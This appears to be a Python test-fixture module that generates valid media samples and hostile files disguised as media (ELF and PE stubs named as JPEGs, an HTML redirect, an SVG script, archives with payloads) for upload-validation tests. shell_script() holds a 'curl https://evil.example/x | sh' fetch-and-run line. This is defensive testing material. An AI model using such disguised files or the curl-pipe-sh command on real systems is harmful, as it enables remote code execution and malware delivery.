"""Files for the media tests, made by the test code itself: valid photos,
audio, video and documents, and hostile files that pretend to be media."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile

from PIL import Image


def _image(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((64, 48), 60).convert("RGB").save(buffer, fmt)
    return buffer.getvalue()


def _box(kind: bytes, payload: bytes) -> bytes:
    """An ISO base media file box (MP4, MOV, M4A, HEIF)."""
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _ftyp(brand: bytes, *compatible: bytes) -> bytes:
    return _box(b"ftyp", brand + struct.pack(">I", 0x200) + b"".join(compatible))


def jpeg() -> bytes:
    return _image("JPEG")


def png() -> bytes:
    return _image("PNG")


def webp() -> bytes:
    return _image("WEBP")


def heic() -> bytes:
    return _ftyp(b"heic", b"mif1", b"heic") + _box(b"meta", bytes(32))


def mp4() -> bytes:
    return _ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41") + _box(b"free", b"") + _box(b"mdat", bytes(256))


def quicktime() -> bytes:
    return _ftyp(b"qt  ", b"qt  ") + _box(b"mdat", bytes(256))


def m4a() -> bytes:
    return _ftyp(b"M4A ", b"M4A ", b"mp42", b"isom") + _box(b"mdat", bytes(256))


def ogg() -> bytes:
    """One Ogg page with a Vorbis identification header."""
    vorbis = b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 2, 44100, 0, 128000, 0, 0xB8, 1)
    header = b"OggS" + bytes([0, 0x02]) + bytes(8) + struct.pack("<III", 1, 0, 0)
    return header + bytes([1, len(vorbis)]) + vorbis


def mp3() -> bytes:
    """An ID3v2 tag and MPEG-1 layer III frames (128 kbit/s, 44.1 kHz)."""
    frame = b"\xff\xfb\x90\x64" + bytes(413)
    return b"ID3\x03\x00\x00\x00\x00\x00\x00" + frame * 8


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def elf() -> bytes:
    header = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(40)
    return header + b"\x90" * 200


def pe() -> bytes:
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return dos + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + bytes(240)


def html() -> bytes:
    return (
        b"<!DOCTYPE html><html><body><script>document.location='https://evil.example'</script></body></html>"
    )


def svg_with_script() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", elf())
    return buffer.getvalue()


def tar_archive() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo("payload.sh")
        data = shell_script()
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def text() -> bytes:
    return b"Lagebericht: keine besonderen Vorkommnisse.\n"


def padded(data: bytes, size: int) -> bytes:
    """``data`` followed by zero bytes up to ``size`` (the formats ignore trailing data)."""
    assert len(data) <= size
    return data + bytes(size - len(data))


ALLOWED = {
    "image/jpeg": jpeg,
    "image/png": png,
    "image/webp": webp,
    "image/heic": heic,
    "video/mp4": mp4,
    "video/quicktime": quicktime,
    "audio/mp4": m4a,
    "audio/ogg": ogg,
    "audio/mpeg": mp3,
    "application/pdf": pdf,
}

#: name -> (bytes, declared Content-Type, file name): each pretends to be something else
HOSTILE = {
    "elf": (elf, "image/jpeg", "holiday.jpg"),
    "pe": (pe, "image/jpeg", "scan.jpg"),
    "html": (html, "image/png", "map.png"),
    "svg": (svg_with_script, "image/svg+xml", "logo.svg"),
    "zip": (zip_archive, "application/pdf", "report.pdf"),
    "tar": (tar_archive, "video/mp4", "clip.mp4"),
    "shell": (shell_script, "text/plain", "notes.txt"),
    "text": (text, "text/plain", "bericht.txt"),
}
